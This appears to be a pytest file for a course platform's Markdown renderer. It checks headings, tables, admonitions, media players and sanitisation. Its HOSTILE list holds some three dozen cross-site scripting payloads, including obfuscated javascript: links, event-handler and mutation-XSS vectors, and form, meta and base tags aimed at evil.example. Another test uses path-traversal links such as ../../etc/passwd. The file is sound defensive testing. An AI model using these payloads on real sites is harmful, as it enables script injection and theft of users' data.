"""Rendering course Markdown: the features trainers use, and nothing hostile survives."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from lms.content.render import render_inline, render_markdown


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """The tags and attributes a browser would see."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.found


def asset_url(path: str) -> str:
    return f"/content/kurs/abc123/{path}"


def test_lesson_features_render():
    html = render_markdown(
        "# Titel\n\n## Abschnitt\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n"
        '!!! warning "Achtung"\n    Passwort nie weitergeben.\n\n'
        "Text mit Fußnote[^1].\n\n[^1]: Quelle: BSI.\n\n"
        "![Ein Diagramm](assets/bild.png)\n\n[Mehr](https://www.bsi.bund.de)\n",
        asset_url,
    )
    assert "<h1>" not in html and "<h2>Titel</h2>" in html  # the page keeps the only h1
    assert "<table>" in html and "<td>1</td>" in html
    assert '<div class="admonition warning">\n<p class="admonition-title">Achtung</p>' in html
    assert 'class="footnote-ref"' in html and 'id="fn:1"' in html
    assert (
        "img",
        {"alt": "Ein Diagramm", "src": "/content/kurs/abc123/assets/bild.png"},
    ) in elements(html)
    assert 'href="https://www.bsi.bund.de" rel="noopener noreferrer"' in html


def test_media_become_players_with_their_description():
    html = render_markdown("![Kurzes Video](assets/film.mp4)\n\n![Ton](assets/ton.mp3)", asset_url)
    tags = dict((tag, attrs) for tag, attrs in elements(html))
    assert (
        tags["video"]["src"] == "/content/kurs/abc123/assets/film.mp4"
        and "controls" in tags["video"]
    )
    assert ">Kurzes Video</video>" in html
    assert (
        tags["audio"]["src"] == "/content/kurs/abc123/assets/ton.mp3"
        and "controls" in tags["audio"]
    )


def test_inline_rendering_drops_the_paragraph():
    assert render_inline("Nur **fett**") == "Nur <strong>fett</strong>"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="assets/bild.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0">x</div>',
    "<style>body{display:none}</style>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="https://ok.example" " onmouseover="alert(1)">x</a>',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '<form action="https://evil.example"><input name=p></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<div class="admonition" id="main" onfocus="alert(1)" tabindex=1 autofocus>x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markup_is_neutralised(payload):
    html = render_markdown(f"Text\n\n{payload}\n", asset_url)
    forbidden = {"script", "iframe", "object", "embed", "form", "input", "meta", "base", "style",
                 "svg", "math", "template", "noscript"}  # fmt: skip
    for tag, attrs in elements(html):
        assert tag not in forbidden, html
        for name, value in attrs.items():
            assert not name.startswith("on") and name not in ("style", "id", "tabindex"), html
            if name in ("href", "src"):
                assert (value or "").startswith(("https://", "mailto:", "#", "/content/")), html


def test_links_outside_the_assets_are_dropped():
    html = render_markdown(
        "![a](../../etc/passwd) [b](/admin/) ![c](assets/../../x.png)", asset_url
    )
    assert "passwd" not in html and "/admin/" not in html and "x.png" not in html


def test_external_images_are_not_loaded():
    html = render_markdown("![Logo](https://tracker.example/pixel.png)", asset_url)
    assert "tracker.example" not in html


def test_only_known_classes_survive():
    html = render_markdown('<div class="admonition note evil">x</div><span class="x">y</span>')
    assert 'class="admonition note"' in html and "evil" not in html and 'class="x"' not in html
